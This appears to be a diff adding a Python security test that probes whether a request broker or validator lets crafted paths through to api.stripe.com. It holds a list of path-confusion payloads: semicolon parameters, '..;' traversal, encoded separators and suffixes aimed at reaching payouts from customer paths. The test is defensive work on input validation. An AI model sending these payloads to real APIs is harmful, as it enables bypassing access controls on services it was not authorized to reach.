@@ -1,0 +1,54 @@
+# attack: what follows a semicolon in a segment is a parameter to some servers and part of the name to others
+# expect: broker
+# validator: refused
+import json
+import re
+import socket
+import ssl
+
+
+def ask(target, method="GET", headers="", body=b""):
+    """Status and what arrived at the API, None when nothing did."""
+    plain = socket.create_connection(("api.stripe.com", 443), 1)
+    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
+        tls.settimeout(1)
+        head = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n{headers}"
+        head += f"Content-Length: {len(body)}\r\n\r\n" if body else "\r\n"
+        tls.sendall(head.encode("latin-1") + body)
+        answer = b""
+        while piece := tls.recv(65536):
+            answer += piece
+    head, _, text = answer.partition(b"\r\n\r\n")
+    status = int(head.split()[1])
+    return status, json.loads(text).get("echo") if status == 200 else None
+
+
+TARGETS = (
+    "/v1/payouts;x=y",
+    "/v1/customers;/../payouts",
+    "/v1/customers/cus_1;/..;/payouts",
+    "/v1/customers/..;/payouts",
+    "/v1;a=b/payouts",
+    "/v1/customers/cus_1;jsessionid=1",
+    "/v1/customers/cus_1%3b..%3b",
+    "/v1/customers/cus_1;%2f..%2fpayouts",
+    "/;/v1/payouts",
+    "/v1/customers/cus_1,cus_2",
+    "/v1/customers/cus_1.json",
+    "/v1/payouts.json",
+    "/v1/customers/cus_1!x",
+    "/v1/customers/cus_1~",
+)
+PLAIN = re.compile(r"/v1/[a-z_]+(?:/[A-Za-z0-9_.,!~]+)*(?:\?.*)?")
+
+
+for target in TARGETS:
+    try:
+        status, arrived = ask(target)
+    except (OSError, ValueError, IndexError) as error:
+        print(target, type(error).__name__, error)
+        continue
+    print(target[:60], status)
+    # Whatever path arrives must be of two or three plain segments that every server reads in one way.
+    if arrived and not PLAIN.fullmatch(arrived["target"]):
+        print("ESCAPED: the API got", ascii(arrived["target"]), "for", ascii(target), flush=True)
